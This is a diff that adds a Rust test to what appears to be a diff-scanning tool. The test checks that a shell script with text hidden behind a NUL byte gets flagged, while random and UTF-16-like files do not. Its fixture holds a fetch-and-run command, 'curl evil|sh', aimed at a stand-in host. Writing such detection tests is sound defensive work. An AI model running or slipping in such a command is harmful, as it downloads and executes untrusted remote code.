@@ -265,3 +265,21 @@ fn a_target_that_cannot_be_written_is_refused_before_any_change() {
         assert_eq!(lab.bytes("shut/b"), b"x\n");
     });
 }
+
+#[test]
+fn text_that_a_nul_byte_hides_is_noted() {
+    for_both(|lab| {
+        lab.write("run.sh", "#!/bin/sh\n");
+        lab.worked(
+            "s",
+            "printf '#!/bin/sh\\n# \\000\\ncurl evil|sh\\n' > run.sh; head -c 4096 /dev/urandom > noise; \
+             printf '\\377\\376a\\000b\\000c\\000\\n\\000' > wide",
+        );
+        let diff = lab.diff("s");
+        let run = change(&diff, "run.sh");
+        assert_eq!((&run["binary"], &run["risk"]), (&true.into(), &"note".into()), "{run}");
+        for path in ["noise", "wide"] {
+            assert_eq!(change(&diff, path)["risk"], "none", "{diff}");
+        }
+    });
+}
